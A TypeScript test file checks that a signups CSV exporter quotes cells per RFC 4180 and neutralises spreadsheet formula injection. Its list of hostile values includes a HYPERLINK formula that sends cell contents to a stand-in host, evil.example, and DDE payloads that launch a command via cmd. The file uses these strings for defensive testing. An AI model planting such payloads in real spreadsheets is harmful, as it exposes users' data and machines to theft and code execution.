import { describe, expect, it } from 'vitest';
import { toCsv } from './signups-csv';

/** A strict RFC 4180 reader, so the test checks what a spreadsheet would see, not how the writer spells it. */
function parseCsv(text: string): string[][] {
  const records: string[][] = [];
  let record: string[] = [];
  let field = '';
  let index = 0;
  while (index < text.length) {
    if (text[index] === '"') {
      index += 1;
      for (;;) {
        const quote = text.indexOf('"', index);
        if (quote === -1) throw new Error('unterminated quoted field');
        field += text.slice(index, quote);
        index = quote + 1;
        if (text[index] !== '"') break;
        field += '"';
        index += 1;
      }
    } else {
      const end = text.slice(index).search(/,|\r\n/);
      const stop = end === -1 ? text.length : index + end;
      field += text.slice(index, stop);
      if (field.includes('"') || field.includes('\n') || field.includes('\r'))
        throw new Error(`bare special character in ${JSON.stringify(field)}`);
      index = stop;
    }
    if (text.startsWith(',', index)) {
      record.push(field);
      field = '';
      index += 1;
    } else if (text.startsWith('\r\n', index)) {
      record.push(field);
      records.push(record);
      record = [];
      field = '';
      index += 2;
    } else if (index < text.length) {
      throw new Error(`unexpected character at ${index}`);
    }
  }
  if (record.length > 0 || field !== '') throw new Error('the last record does not end with CRLF');
  return records;
}

const HOSTILE = [
  '=HYPERLINK("http://evil.example/?"&A1,"Click")',
  "+1+cmd|' /C calc'!A0",
  '-2+3',
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '\t=1+1',
  '\r=1+1',
  'Ada, "the Countess", Lovelace',
  'two\nlines',
  'windows\r\nline',
  '"',
  '',
  '  spaces kept  ',
  'Zoë 中文 👩‍💻',
  'a=b, not a formula',
  '\uFF1D1+1',
  'Bob;=1+2;@SUM(1+1)',
];
const FORMULA_START = /^[=+\-@\t\r\uFF1D\uFF0B\uFF0D\uFF20]/;

describe('toCsv', () => {
  it('writes RFC 4180: a header, CRLF after every record, every cell quoted', () => {
    expect(
      toCsv(
        ['email', 'name'],
        [
          ['ada@example.com', 'Ada'],
          ['bob@example.com', 'Bob; Jr.'],
          ['cy@example.com', ''],
        ],
      ),
    ).toBe(
      '"email","name"\r\n"ada@example.com","Ada"\r\n"bob@example.com","Bob; Jr."\r\n"cy@example.com",""\r\n',
    );
  });

  it('round-trips hostile values through a strict reader, each in its own cell', () => {
    const rows = HOSTILE.map((value, index) => [String(index), value]);
    const parsed = parseCsv(toCsv(['id', 'value'], rows));
    expect(parsed).toHaveLength(HOSTILE.length + 1);
    expect(parsed.every((record) => record.length === 2)).toBe(true);
    const values = parsed.slice(1).map((record) => record[1]);
    // Only formula starts change, by one leading apostrophe; everything else comes back byte for byte.
    expect(values).toEqual(HOSTILE.map((value) => (FORMULA_START.test(value) ? `'${value}` : value)));
  });

  it('never lets a cell start with = + - @ (or their full-width forms), tab or CR', () => {
    const parsed = parseCsv(toCsv(HOSTILE, [HOSTILE]));
    for (const cell of parsed.flat()) expect(cell).not.toMatch(FORMULA_START);
  });

  it('quotes an escaped formula and doubles its quotes', () => {
    expect(toCsv(['v'], [['=1,2']])).toBe(`"v"\r\n"'=1,2"\r\n`);
    expect(toCsv(['v'], [['@"x"']])).toBe(`"v"\r\n"'@""x"""\r\n`);
  });
});
